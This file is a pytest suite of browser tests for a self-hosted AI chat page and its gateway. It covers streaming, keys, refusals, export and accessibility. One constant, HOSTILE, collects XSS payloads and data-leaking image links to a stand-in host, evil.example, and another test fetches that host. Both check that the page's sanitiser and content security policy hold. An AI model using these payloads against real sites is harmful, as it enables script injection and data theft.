# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright: nas.assistant contributors
"""The chat page in a real browser, against the real gateway with a scripted engine."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import pytest

from nas_assistant.engine import Call, EngineBusy, EngineState, EngineUnavailable, Kind, Model

from .browser import Browser
from .conftest import SECRET
from .fake_engine import READY, FakeEngine
from .website import Server, Visit, Visits

DONE = b"data: [DONE]\n\n"
ANSWERED = "!document.querySelector('.running') && document.querySelector('.assistant .tools')"
RUNNING = "document.querySelector('.running .body').textContent"


def event(choice: dict[str, Any], **more: Any) -> bytes:
    text = json.dumps({"choices": [choice]} | more, ensure_ascii=False)
    return f"data: {text}\n\n".encode()


def says(text: str, finish: str = "stop") -> tuple[bytes, ...]:
    """The events of an answer, in parts of 200 characters."""
    parts = [text[i : i + 200] for i in range(0, len(text), 200)]
    return (
        *(event({"delta": {"content": part}}) for part in parts),
        event({"delta": {}, "finish_reason": finish}, usage={"completion_tokens": 9}),
        DONE,
    )


class ForgetfulEngine(FakeEngine):
    """Reads one message at most."""

    @asynccontextmanager
    async def generate(self, call: Call) -> AsyncIterator[FakeEngine]:
        engine: FakeEngine = self
        if len(json.loads(call.body)["messages"]) > 1:
            error = {"code": 400, "message": "no", "type": "exceed_context_size_error"}
            engine = FakeEngine(json.dumps({"error": error}).encode(), status=400)
        self.requests.append((call.model, call.path, json.loads(call.body), call.key))
        yield engine


class Chat(Visit):
    """What a person does in the chat."""

    def ask(self, text: str) -> None:
        self.focus("#question")
        self.page.type(text)
        self.page.press("Enter")

    def ask_and_wait(self, text: str) -> str:
        # Those of the answers before this one are there already, and it is drawn before it runs.
        before = self.count(".assistant .tools")
        self.ask(text)
        self.page.wait(f"document.querySelectorAll('.assistant .tools').length > {before}")
        self.page.wait(ANSWERED)
        return self.text(".assistant:last-of-type .body")


@pytest.fixture
def server(running_server: Server) -> Server:
    running_server.reset(FakeEngine(*says("Hello.")))
    return running_server


@pytest.fixture
def new_chat(server: Server, visits: Visits) -> Callable[..., Chat]:
    """Opens chats, as ``Visits.open`` says."""

    def make(**how: Any) -> Chat:
        chat = visits.open(Chat, server, "/", **how)
        if how.get("key", SECRET):
            chat.page.wait("document.querySelector('#model').value")
        return chat

    return make


@pytest.fixture
def chat(new_chat: Callable[..., Chat]) -> Chat:
    return new_chat()


def test_a_question_is_answered(chat: Chat, server: Server) -> None:
    first, second = says("**Paris** is the capital.")[:1], says(" Really.")
    proceed = threading.Event()
    server.engine.parts = (*first, proceed, *second)
    chat.ask("What is the capital\nof France?")
    chat.page.wait(f"{RUNNING}.includes('Paris')")
    assert chat.page.run("document.querySelector('#stop').checkVisibility()")
    # Nothing for a screen reader until the end, and then all of it.
    assert chat.text("#status") == "The assistant is answering."
    proceed.set()
    chat.page.wait(ANSWERED)
    assert chat.text(".assistant .body") == "Paris is the capital. Really."
    assert chat.count(".assistant strong") == 1
    assert chat.text("#status") == "The answer is complete: Paris is the capital. Really."
    assert "9 tokens" in chat.text(".assistant .tools")
    assert chat.text("#heading") == "What is the capital"
    assert chat.value("#question") == ""
    ((model, _, body, key),) = server.engine.requests
    assert (model, key) == ("default", "owner")
    assert body["messages"] == [{"role": "user", "content": "What is the capital\nof France?"}]
    assert body["stream"] is True
    assert body["stream_options"] == {"include_usage": True}
    assert chat.count(".outside") == 0


def test_a_model_that_thinks_first_is_seen_to(chat: Chat, server: Server) -> None:
    """Its thoughts are plain text, for who opens them, and no part of what it is told next."""
    thought = ".assistant .thought"
    thoughts = [event({"delta": {"reasoning_content": part}}) for part in ("Hm, <b>", "Paris?")]
    proceed, answer = threading.Event(), threading.Event()
    server.engine.parts = (*thoughts, proceed, *says("**Paris**.")[:1], answer, *says("")[-2:])
    chat.ask("What is the capital of France?")
    chat.page.wait(
        "document.querySelector('.assistant .thought summary')?.innerText === 'Thinking…'"
    )
    assert chat.count(".waiting") == 0
    assert chat.text(f"{thought} div") == ""  # closed
    chat.click(f"{thought} summary")
    chat.page.wait(
        "document.querySelector('.assistant .thought div').innerText === 'Hm, <b>Paris?'"
    )
    proceed.set()
    chat.page.wait(
        "document.querySelector('.assistant .thought summary').innerText.startsWith('Thoughts')"
    )
    answer.set()
    chat.page.wait(ANSWERED)
    assert chat.text(".assistant .body") == "Paris."
    assert chat.text(f"{thought} div") == "Hm, <b>Paris?"
    assert "Hm" not in chat.text("#status")
    chat.page.reload()
    chat.page.wait(
        "document.querySelector('.assistant .thought div')?.textContent === 'Hm, <b>Paris?'"
    )
    server.engine.parts = says("Yes.")
    assert chat.ask_and_wait("Really?") == "Yes."
    assert chat.page.run("document.querySelector('article:last-of-type .thought').hidden")
    body = server.engine.requests[-1][2]
    assert "Hm" not in str(body)
    assert "chat_template_kwargs" not in body


def test_models_can_be_told_not_to_think(chat: Chat, server: Server) -> None:
    for told in ({"enable_thinking": False}, None):
        chat.click("#open-settings")
        chat.click("#think")
        chat.click("#settings [value=close]")
        chat.page.reload()
        chat.page.wait("document.querySelector('#model').value")
        assert chat.page.run("document.querySelector('#think').checked") is (told is None)
        chat.ask_and_wait("Hello")
        assert server.engine.requests[-1][2].get("chat_template_kwargs") == told


@pytest.mark.parametrize("how", ["button", "escape"])
def test_stop_keeps_the_part(chat: Chat, server: Server, how: str) -> None:
    server.engine.parts = (*says("The beginning")[:1], None)
    chat.ask("Tell me a story")
    chat.page.wait(RUNNING)
    chat.click("#stop") if how == "button" else chat.page.press("Escape")
    chat.page.wait(ANSWERED)
    assert chat.text(".assistant .body") == "The beginning"
    assert "Stopped." in chat.text(".note")
    chat.page.wait(lambda: server.engine.active == 0)
    chat.page.reload()
    chat.page.wait("document.querySelector('.assistant .body')?.innerText === 'The beginning'")


HOSTILE = """<img src=x onerror=window.hacked=1> <script>window.hacked=1</script>
<svg onload=window.hacked=1> <iframe src="http://evil.example/"></iframe>

[script](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
[own](/v1/models) [tab](java\tscript:window.hacked=1) [Java](JaVaScRiPt:window.hacked=1)
<javascript:window.hacked=1> [quotes](http://a.example/"onclick="window.hacked=1)
![picture](http://evil.example/leak?secret) ![](http://evil.example/leak2) [![in](http://i.example/x)](http://o.example/y)

```html"><img src=x onerror=window.hacked=1>
<img src=x onerror=window.hacked=1></code></pre><script>window.hacked=1</script>
```

`<img src=x onerror=window.hacked=1>` **<b onmouseover=window.hacked=1>bold**

| <script>window.hacked=1</script> | [x](vbscript:x) |
|---|---|
| <img src=x onerror=window.hacked=1> | &lt;script&gt; |

# <style>*{display:none}</style> <link rel=stylesheet href=http://evil.example/>
> <meta http-equiv=refresh content="0;url=http://evil.example/">
"""


def test_a_hostile_answer_is_only_text(chat: Chat, server: Server) -> None:
    server.engine.parts = says(HOSTILE)
    text = chat.ask_and_wait("Be evil")
    for raw in ("<img src=x", "<script>", "javascript:window", "<style>", "<meta", "[own](/v1/"):
        assert raw in text
    tags = chat.page.run(
        "[...new Set([...document.querySelectorAll('.assistant .body *')].map(e => e.localName))]"
    )
    made = {"p", "a", "div", "span", "pre", "code", "strong", "table", "thead", "tbody", "tr"}
    made |= {"th", "td", "h3", "blockquote", "button", "svg", "use"}
    assert set(tags) <= made
    links = chat.page.run(
        "[...document.querySelectorAll('.assistant .body a')].map(a => [a.href, a.rel, a.target])"
    )
    assert len(links) >= 4
    # The text cannot hide where it leads.
    assert chat.page.run("document.querySelector('a[data-host]').dataset.host") == "a.example"
    for href, rel, target in links:
        assert href.startswith("http://")
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    names = chat.page.run(
        "[...new Set([...document.querySelectorAll('.assistant .body :not(svg, svg *)')]"
        ".flatMap(e => e.getAttributeNames()))]"
    )
    known = {"class", "href", "rel", "target", "title", "tabindex", "dir", "type", "aria-label"}
    assert set(names) <= known | {"data-action", "data-host"}
    time.sleep(0.2)
    assert chat.page.run("window.hacked") is None
    # That nothing else was asked for, and that no policy was hurt, is looked at after each test.


def test_the_policy_holds_where_the_page_would_not(browser: Browser, server: Server) -> None:
    """Were there markup from an answer after all, the headers would stop it."""
    page = browser.page(browser.context())
    page.open(f"http://127.0.0.1:{server.port}/")
    with pytest.raises(RuntimeError, match="TrustedHTML"):
        page.run("document.body.innerHTML = '<img src=x onerror=window.hacked=1>'")
    page.run(
        "document.body.append(Object.assign(new Image(), {src: 'http://evil.example/x'}));"
        "document.body.setAttribute('style', 'color: red');"
        "fetch('http://evil.example/').catch(() => 0)"
    )
    page.wait(lambda: len(page.seen("Log.entryAdded")) >= 2)
    page.wait("document.querySelector('img')")
    loaded = [r["response"]["url"] for r in page.seen("Network.responseReceived")]
    assert not [url for url in loaded if "evil" in url]
    assert page.run("document.body.style.color") == ""
    assert page.run("window.hacked") is None


PIECES = [
    *("*", "**", "_a", "`", "` `` ``` ", "[", "![", "](", "[a](", "[x](http://a)", "> ", "- "),
    *("-\n", "1. ", "* a\n", "- a\n  ", "> - ", "|", "|a\n", "a|b\n-|-\n", "#", "# \n", "~~a"),
    *("~~~\n", "```\n", "<http://", "http://a.", "\\", "&amp", "**a *b ", "a* *b", " ", "\n"),
    *('](a "', "](a '", "[*a](b) ", "<br>", "\ud83d\ude00*"),
]
# What stands before, what is repeated, what stands behind.
FRAMES = [
    ("[a](", " ", "x"),
    ('[a](b "', " ", "x"),
    ("```", " ", "`"),
    ("# a ", " #", "b"),
    ("http://a", ".", " x"),
    ("[a](http://x", "(a)", ""),
    ("|" * 1000 + "\n" + "|-" * 1000 + "|\n", "|\n", ""),
    ("", "|", "\n" + "|-" * 60_000),
]


@pytest.fixture(scope="module")
def render(browser: Browser, running_server: Server) -> Callable[[str], Any]:
    """Runs a script on a page; in it, ``render`` is the page's and ``target`` an element for it."""
    page = browser.page(browser.context())
    page.open(f"http://127.0.0.1:{running_server.port}/")
    before = "import('/assets/markdown.js').then(({ render }) => {"
    before += " let target = document.createElement('div'); "
    return lambda script: page.run(f"{before} {script} }})")


def test_no_input_takes_long(render: Callable[[str], Any]) -> None:
    cases = [("", piece, "") for piece in PIECES] + FRAMES
    times = render(
        f"return {json.dumps(cases)}.map(([before, piece, after]) => {{"
        "  target = document.createElement('div');"
        "  const text = before + piece.repeat(200_000 / piece.length) + after;"
        "  let best = Infinity;"
        # The machine may be busy with something else.
        "  for (let tries = 0; tries < 3 && best > 1000; tries++) {"
        "    const started = performance.now();"
        "    render(target, text);"
        "    best = Math.min(best, performance.now() - started);"
        "  }"
        "  return best;"
        "});"
    )
    assert not [(case, ms) for case, ms in zip(cases, times, strict=True) if ms > 1000]


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("# One\n## Two #\ntext", "<h3>One</h3><h4>Two</h4><p>text</p>"),
        (
            "a *b* **c** ***d*** __e__ ~~f~~",
            "<p>a <em>b</em> <strong>c</strong> <strong><em>d</em></strong> <strong>e</strong>"
            " <del>f</del></p>",
        ),
        ("snake_case_name 2 * 3 * 4 3~5 **", "<p>snake_case_name 2 * 3 * 4 3~5 **</p>"),
        ("**重要。**请*注意*", "<p><strong>重要。</strong>请<em>注意</em></p>"),
        ("*foo (*bar*)*", "<p><em>foo (<em>bar</em>)</em></p>"),
        ("`a` `` b`c `` \\`d\\` `e", "<p><code>a</code> <code>b`c</code> `d` `e</p>"),
        (
            "- a\n- b\n  - c\n\n    d\n- e",
            "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p><p>d</p></li></ul></li>"
            "<li><p>e</p></li></ul>",
        ),
        ("3. a\n4. b", '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'),
        ("> a\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"),
        ("a\n---\nb", "<p>a</p><hr><p>b</p>"),
        ("a &lt;b&gt; &amp; c<br>d", "<p>a &lt;b&gt; &amp; c\nd</p>"),
        ("no | table\nhere", "<p>no | table\nhere</p>"),
    ],
)
def test_markdown(render: Callable[[str], Any], text: str, markup: str) -> None:
    whole = render(f"render(target, {json.dumps(text)}); return target.innerHTML;")
    assert whole == markup
    grown = render(
        f"[...{json.dumps(text)}].reduce((text, character) => {{"
        "  render(target, text + character);"
        "  return text + character;"
        "}, '');"
        "return target.innerHTML;"
    )
    assert grown == markup


@pytest.mark.parametrize(
    ("text", "direction"), [("1. שלום", "rtl"), ("*مرحبا* x", "rtl"), ("1. x שלום", "ltr")]
)
def test_direction(render: Callable[[str], Any], text: str, direction: str) -> None:
    assert render(f"render(target, {json.dumps(text)}); return target.dir;") == direction


def test_finished_blocks_keep_their_nodes(render: Callable[[str], Any]) -> None:
    kept = render(
        "render(target, 'one\\n\\ntwo');"
        "const first = target.firstChild;"
        "render(target, 'one\\n\\ntwo and more\\n\\nthree');"
        "return [first === target.firstChild, target.innerText];"
    )
    assert kept == [True, "onetwo and morethree"]


def test_a_wrong_key_is_asked_for_again(new_chat: Callable[..., Chat]) -> None:
    chat = new_chat(key="")
    chat.enter_key("wrong")
    chat.page.wait("document.querySelector('#key-note').textContent")
    assert chat.text("#key-note") == "The assistant does not know this key."
    chat.enter_key("密钥")
    chat.page.wait("document.querySelector('#key-field').value === ''")
    chat.enter_key(SECRET)
    chat.page.wait("document.querySelector('#model').value === 'default'")
    assert SECRET not in chat.storage("local")
    chat.page.reload()
    chat.page.wait("document.querySelector('#model').value === 'default'")


def test_a_key_that_is_no_longer_valid(chat: Chat) -> None:
    chat.page.run("sessionStorage['nas-assistant.key'] = 'old'")
    chat.ask("Still there?")
    chat.page.wait("document.querySelector('#key').open")
    assert chat.text("#key-note") == "The assistant does not know this key."
    assert chat.text(".user .body") == "Still there?"
    chat.enter_key(SECRET)
    chat.page.wait("document.querySelector('.assistant .body').innerText === 'Hello.'")
    assert chat.count(".note") == 0


def test_remember_and_forget_the_key(new_chat: Callable[..., Chat]) -> None:
    chat = new_chat(key="")
    chat.enter_key(SECRET, remember=True)
    chat.page.wait("document.querySelector('#model').value")
    assert SECRET in chat.storage("local")
    assert SECRET not in chat.storage("session")
    chat.click("#open-settings")
    chat.choose("settings", "forget")
    chat.page.wait("document.querySelector('#notice').textContent")
    assert SECRET not in chat.storage("local") + chat.storage("session")
    # What was typed outlives the question for the key, also if there is no answer to it.
    chat.ask("Anybody?")
    chat.page.wait("document.querySelector('#key').open")
    chat.page.press("Escape")
    chat.page.wait("!document.querySelector('#key').open")
    assert chat.value("#question") == "Anybody?"


@pytest.mark.parametrize(
    ("refusal", "sentence"),
    [
        (EngineBusy(7), "Too many questions are waiting already. Try again in 7 s."),
        (EngineUnavailable("it is loading"), "The assistant is not ready yet. Wait a moment."),
    ],
)
def test_refusals(chat: Chat, server: Server, refusal: Exception, sentence: str) -> None:
    chat.ask_and_wait("First")
    server.engine.refusal = refusal
    chat.ask_and_wait("Second")
    assert chat.text(".note").startswith(sentence)
    assert chat.text("#status").startswith(sentence)
    server.engine.refusal = None
    chat.click(".note button")
    chat.page.wait(f"!document.querySelector('.note') && {ANSWERED}")
    assert chat.count(".assistant") == 2
    sent = [message["content"] for message in server.engine.requests[-1][2]["messages"]]
    assert sent == ["First", "Hello.", "Second"]


def test_a_failed_second_try_keeps_the_first_answer(chat: Chat, server: Server) -> None:
    chat.ask_and_wait("First")
    server.engine.refusal = EngineBusy(7)
    chat.click("[data-action=again]")
    chat.page.wait("document.querySelector('.note')")
    assert chat.text(".assistant .body") == "Hello."


@pytest.mark.parametrize(
    ("end", "sentence"),
    [
        (EngineUnavailable("it died"), "The assistant is not ready yet."),
        (ZeroDivisionError(), "The connection broke off."),
        (b"", "The connection broke off."),
        (b"data: {nonsense\n\n", "The connection broke off."),
    ],
)
def test_streams_that_break(
    chat: Chat, server: Server, end: bytes | Exception, sentence: str
) -> None:
    # A connection that ends at once may take along what the browser has not read yet.
    seen = threading.Event()
    server.engine.parts = (*says("Half an")[:1], seen, end)
    chat.ask("Say something")
    chat.page.wait(RUNNING)
    seen.set()
    chat.page.wait(ANSWERED)
    assert chat.text(".assistant .body") == "Half an"
    assert chat.text(".note").startswith(sentence)


def test_offline(chat: Chat) -> None:
    offline = {"offline": True, "latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
    chat.page.call("Network.emulateNetworkConditions", **offline)
    chat.ask_and_wait("Anybody?")
    assert chat.text(".note").startswith("The NAS cannot be reached.")
    assert chat.text(".user .body") == "Anybody?"


def test_no_model(new_chat: Callable[..., Chat], server: Server) -> None:
    server.engine.state = EngineState(False, "loading the model", {})
    chat = new_chat(key="")
    chat.enter_key(SECRET)
    chat.page.wait("document.querySelector('#notice').textContent")
    assert chat.text("#notice") == "No model is ready yet."
    server.engine.state = READY
    chat.click("#notice-retry")
    chat.page.wait("document.querySelector('#model').value === 'default'")
    assert chat.text("#notice") == ""


def test_the_model_is_chosen(chat: Chat, server: Server) -> None:
    models = {name: Model(name, Kind.CHAT, created=1) for name in ("default", "other")}
    # One that cannot chat is not offered.
    models["vectors"] = Model("vectors", Kind.EMBEDDING, created=1)
    models["other"] = Model("other", Kind.CHAT, 1, "example")
    server.engine.state = EngineState(True, "", models)
    chat.page.reload()
    chat.page.wait("document.querySelector('#model').options.length === 2")
    names = chat.page.run("[...document.querySelectorAll('#model option')].map((o) => o.text)")
    assert names == ["default", "other (outside of this house)"]
    chat.page.run(
        "const model = document.querySelector('#model'); model.value = 'other';"
        "model.dispatchEvent(new Event('change'))"
    )
    chat.ask("Hello?")
    # The gateway of this test has one model only; the page asked for the other one.
    chat.page.wait("document.querySelector('.note')")
    chat.page.reload()
    chat.page.wait("document.querySelector('#model').value === 'other'")


def test_a_long_conversation_loses_its_beginning(chat: Chat, server: Server) -> None:
    chat.ask_and_wait("First")
    server.reset(ForgetfulEngine(*says("Yes.")))
    assert chat.ask_and_wait("Second") == "Yes."
    assert "no longer knows the beginning" in chat.text(".note")
    asked = [len(body["messages"]) for _, _, body, _ in server.engine.requests]
    assert asked == [3, 1]


def test_cut_off_and_from_outside(chat: Chat, server: Server) -> None:
    server.engine.parts = says("A lot", finish="length")
    server.engine.state = EngineState(True, "", {"smart": Model("smart", Kind.CHAT, 1, "example")})
    chat.page.reload()
    chat.page.wait("document.querySelector('#model').value === 'smart'")
    chat.ask_and_wait("Write")
    assert chat.text(".outside") == "answered outside of this house"
    assert "cut off" in chat.text(".note")
    server.engine.status, server.engine.parts = 500, (b"{}",)
    chat.ask("Write")
    chat.page.wait("document.querySelectorAll('.outside').length === 2")


def test_conversations_are_kept(chat: Chat, server: Server) -> None:
    chat.ask_and_wait("The first one")
    chat.click("#new")
    assert chat.count("article") == 0
    chat.ask_and_wait("The second one")
    chat.page.reload()
    chat.page.wait("document.querySelectorAll('#list li').length === 2")
    chat.page.wait("document.querySelectorAll('article').length === 2")
    assert chat.text("#heading") == "The second one"
    chat.click("#list li:last-child button")
    chat.page.wait("document.querySelector('#heading').innerText === 'The first one'")

    chat.click("#open-options")
    chat.page.run("document.querySelector('#title-field').select()")
    chat.page.type("Renamed")
    chat.focus("#system-field")
    chat.page.type("Be brief.")
    chat.choose("options", "save")
    chat.page.wait("document.querySelector('#list [aria-current]').innerText === 'Renamed'")
    chat.ask_and_wait("And more")
    assert server.engine.requests[-1][2]["messages"][0] == {
        "role": "system",
        "content": "Be brief.",
    }

    chat.click("#open-options")
    chat.choose("options", "delete")
    chat.page.wait("document.querySelector('#sure').open")
    assert "“Renamed”" in chat.text("#sure-text")
    chat.choose("sure", "cancel")
    assert chat.count("#list li") == 2
    chat.click("#open-options")
    chat.choose("options", "delete")
    chat.choose("sure", "yes")
    chat.page.wait("document.querySelectorAll('#list li').length === 1")
    chat.page.reload()
    chat.page.wait("document.querySelectorAll('#list li').length === 1")


def test_what_is_typed_survives(chat: Chat) -> None:
    chat.ask_and_wait("First")
    chat.focus("#question")
    chat.page.type("A draft")
    chat.click("[data-action=edit]")
    assert chat.value("#question") == "First"
    chat.click("#edit-cancel")
    assert chat.value("#question") == "A draft"
    chat.page.reload()
    chat.page.wait("document.querySelector('#question').value === 'A draft'")


def test_the_last_question_is_edited(chat: Chat, server: Server) -> None:
    chat.ask_and_wait("First")
    chat.click("[data-action=edit]")
    chat.page.type(" one")
    chat.page.press("Enter")
    chat.page.wait("document.querySelector('.user .body').innerText === 'First one'")
    chat.page.wait(ANSWERED)
    assert chat.count("article") == 2
    assert len(server.engine.requests[-1][2]["messages"]) == 1


def test_two_windows(chat: Chat, new_chat: Callable[..., Chat], server: Server) -> None:
    chat.ask_and_wait("From the first window")
    other = new_chat(beside=chat)
    other.page.wait("document.querySelectorAll('#list li').length === 1")
    other.ask_and_wait("Another conversation")
    chat.page.wait("document.querySelectorAll('#list li').length === 2")
    # The same conversation in both: each adds to it, and nothing is lost.
    other.click("#list li:last-child button")
    other.page.wait("document.querySelectorAll('article').length === 2")
    proceed = threading.Event()
    server.engine.parts = (*says("Slow")[:1], proceed, *says("."))
    # A page that nobody sees draws nothing until the end.
    chat.page.call("Page.bringToFront")
    chat.ask("One")
    chat.page.wait(RUNNING)
    other.page.wait("document.querySelectorAll('article').length === 4")
    other.ask("Two")
    other.page.wait("document.querySelector('.running')")
    proceed.set()
    for window in (chat, other):
        window.page.wait("document.querySelectorAll('article').length === 6")
        window.page.wait(ANSWERED)
    chat.page.reload()
    chat.page.wait("document.querySelectorAll('.assistant .body').length === 3")
    assert chat.page.run(
        "[...document.querySelectorAll('.user .body')].map((body) => body.innerText)"
    ) == ["From the first window", "One", "Two"]
    # One deletes it while it is open in the other.
    chat.click("#open-options")
    chat.choose("options", "delete")
    chat.choose("sure", "yes")
    other.page.wait("document.querySelector('#notice').innerText.includes('deleted')")
    assert other.count("article") == 0


def test_no_room_left(chat: Chat) -> None:
    origin = chat.url.rstrip("/")
    chat.page.call("Storage.overrideQuotaForOrigin", origin=origin, quotaSize=1)
    chat.ask_and_wait("First")
    chat.page.wait("document.querySelector('#notice').innerText.includes('no room left')")
    assert chat.count("article") == 2
    chat.page.call("Storage.overrideQuotaForOrigin", origin=origin)
    chat.ask_and_wait("Second")
    chat.page.wait("document.querySelector('#notice').innerText === ''")
    chat.page.reload()
    chat.page.wait("document.querySelectorAll('article').length === 4")


CATCH = """
window.files = [];
URL.createObjectURL = (blob) => (blob.text().then((text) => window.files.push(text)), 'blob:');
HTMLAnchorElement.prototype.click = function () { window.files.push(this.download); };
"""
GIVE = """
(text) => {
  const files = new DataTransfer();
  files.items.add(new File([text], 'conversations.json'));
  document.querySelector('#file').files = files.files;
  document.querySelector('#file').dispatchEvent(new Event('change'));
}
"""


def test_export_and_import(chat: Chat, new_chat: Callable[..., Chat]) -> None:
    chat.ask_and_wait("Who/are <you>?")
    chat.page.run(CATCH)
    chat.click("#open-options")
    chat.choose("options", "export")
    chat.page.wait("files.length === 2")
    name, text = chat.page.run("files")
    assert name == "Who_are _you__.md"
    assert text == "# Who/are <you>?\n\n## You\n\nWho/are <you>?\n\n## Assistant\n\nHello.\n"
    chat.click("#open-settings")
    chat.choose("settings", "export")
    chat.page.wait("files.length === 4")
    exported = str(chat.page.run("files[3]"))
    assert SECRET not in exported

    other = new_chat()
    notice = "document.querySelector('#notice').textContent"
    for bad in ("", "{}", exported.replace('"user"', '"root"'), exported.replace('"text"', '"x"')):
        other.page.run("document.querySelector('#notice').textContent = ''")
        other.page.run(f"({GIVE})({json.dumps(bad)})")
        other.page.wait(notice)
        assert (
            other.text("#notice")
            == "This file is no export of conversations. Nothing was imported."
        )
    for sentence in ("Imported: 1. Here already: 0.", "Imported: 0. Here already: 1."):
        other.page.run(f"({GIVE})({json.dumps(exported)})")
        other.page.wait(f"{notice} === {sentence!r}")
    other.click("#list button")
    other.page.wait("document.querySelector('.assistant .body')?.innerText === 'Hello.'")


def test_copy(chat: Chat, server: Server) -> None:
    server.engine.parts = says("A *file*:\n\n```sh\nls -l\n```\n")
    chat.ask_and_wait("Show me")
    chat.page.run("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    chat.click(".code button")
    chat.page.wait("window.copied === 'ls -l'")
    chat.click(".assistant .tools [data-action=copy]")
    chat.page.wait("window.copied.startsWith('A *file*:')")
    assert chat.text("#status") == "Copied"


def test_chinese(new_chat: Callable[..., Chat], server: Server) -> None:
    chat = new_chat(language="zh-CN")
    assert chat.page.run("document.documentElement.lang") == "zh-Hans"
    assert chat.text("#new") == "新对话"
    # Enter that chooses a word in an input method does not send the question.
    chat.focus("#question")
    chat.page.call("Input.imeSetComposition", text="ni hao", selectionStart=6, selectionEnd=6)
    chat.page.press("Enter")
    assert chat.count("article") == 0
    chat.page.call("Input.insertText", text="你好")
    server.engine.refusal = EngineBusy(3)
    chat.page.press("Enter")
    chat.page.wait("document.querySelector('.note')")
    assert chat.text(".user .body") == "你好"
    assert chat.text(".note").startswith("等待中的问题太多，请在 3 秒后重试。")  # noqa: RUF001
    chat.page.run(
        "const language = document.querySelector('#language'); language.value = 'en';"
        "language.dispatchEvent(new Event('change'))"
    )
    assert chat.text("#new") == "New conversation"
    assert chat.text(".note").startswith("Too many")
    chat.page.reload()
    assert chat.text("#new") == "New conversation"


def test_dark_and_light(new_chat: Callable[..., Chat]) -> None:
    chat = new_chat(scheme="dark")
    colour = "getComputedStyle(document.body).backgroundColor"
    dark = chat.page.run(colour)
    chat.page.run(
        "const theme = document.querySelector('#theme'); theme.value = 'light';"
        "theme.dispatchEvent(new Event('change'))"
    )
    light = chat.page.run(colour)
    assert (dark, light) == ("rgb(23, 25, 28)", "rgb(252, 251, 249)")
    chat.page.reload()
    assert chat.page.run(colour) == light


def test_by_keyboard_alone(chat: Chat) -> None:
    chat.page.wait("document.activeElement.id === 'question'")
    chat.page.type("one")
    chat.page.press("Enter", modifiers=8)
    chat.page.type("two")
    assert chat.value("#question") == "one\ntwo"
    chat.page.press("Enter")
    chat.page.wait(ANSWERED)
    reached = []
    for _ in range(30):
        chat.page.press("Tab")
        reached.append(
            chat.page.run("(({ id, dataset }) => id || dataset.action)(document.activeElement)")
        )
        # What has the focus can be seen to have it.
        assert chat.page.run(
            "(document.activeElement === document.body ||"
            " getComputedStyle(document.activeElement.closest('.field') ?? document.activeElement)"
            ".outlineStyle !== 'none')"
        ), reached
    for control in ("new", "open-settings", "open-options", "model", "scroll", "copy", "edit"):
        assert control in reached
    chat.focus("#open-settings")
    chat.page.press(" ")
    chat.page.wait("document.querySelector('#settings').open")
    chat.page.press("Escape")
    chat.page.wait("!document.querySelector('#settings').open")
    assert chat.page.run("document.activeElement.id") == "open-settings"


def test_a_screen_reader_finds_names_for_everything(chat: Chat) -> None:
    chat.ask_and_wait("Hello")
    nodes = chat.page.call("Accessibility.getFullAXTree")["nodes"]
    roles = {node["role"]["value"] for node in nodes if not node["ignored"]}
    assert {"main", "navigation", "banner", "article", "status", "heading"} - roles <= {"banner"}
    controls = ("button", "textbox", "combobox", "link", "checkbox", "dialog", "region")
    nameless = [
        node
        for node in nodes
        if not node["ignored"]
        and node["role"]["value"] in controls
        and not node.get("name", {}).get("value")
    ]
    assert not nameless


def test_a_narrow_screen(new_chat: Callable[..., Chat], server: Server) -> None:
    chat = new_chat()
    metrics = {"width": 320, "height": 568, "deviceScaleFactor": 1, "mobile": True}
    chat.page.call("Emulation.setDeviceMetricsOverride", **metrics)
    chat.page.call("Emulation.setTouchEmulationEnabled", enabled=True)
    wide = "long" * 100
    cells = "|".join(["cell"] * 30)
    server.engine.parts = says(
        f"{wide} https://a.example/{wide}\n\n```\n{wide}\n```\n\n`{wide}`\n\n|{cells}|\n"
        f"|{'-|' * 30}\n|{cells}|\n\n> - {wide}\n"
    )
    chat.focus("#question")
    chat.page.type(wide)
    chat.click("#send")
    chat.page.wait(ANSWERED)
    for element in ("document.documentElement", "document.querySelector('#scroll')"):
        assert chat.page.run(f"{element}.scrollWidth <= 320"), element
    # With less than 16 px, a phone zooms in on what is typed in.
    assert chat.page.run(
        "[...document.querySelectorAll('input, select, textarea')]"
        ".every((field) => parseFloat(getComputedStyle(field).fontSize) >= 16)"
    )
    chat.page.wait("!document.querySelector('#side').checkVisibility({visibilityProperty: true})")
    chat.click("#menu")
    chat.page.wait("document.activeElement.id === 'new'")
    chat.page.press("Escape")
    assert chat.page.run("document.querySelector('#menu').ariaExpanded") == "false"
    # Enter is a new line where there is no Shift.
    chat.focus("#question")
    chat.page.press("Enter")
    assert chat.value("#question") == "\n"


def test_a_long_answer_can_be_read_while_it_comes(chat: Chat, server: Server) -> None:
    lines = "\n\n".join(f"Line {number}" for number in range(200))
    proceed = threading.Event()
    server.engine.parts = (*says(lines)[:-2], proceed, *says("\n\nThe end"))
    chat.ask("Count")
    chat.page.wait(f"{RUNNING}.includes('Line 199')")
    at_end = (
        "(({ scrollTop, clientHeight, scrollHeight }) =>"
        " scrollHeight - scrollTop - clientHeight < 60)(document.querySelector('#scroll'))"
    )
    chat.page.wait(at_end)
    chat.page.run("document.querySelector('#scroll').scrollTop = 0")
    proceed.set()
    chat.page.wait(ANSWERED)
    assert chat.page.run("document.querySelector('#scroll').scrollTop") == 0
    chat.click("#to-end")
    assert chat.page.run(at_end)
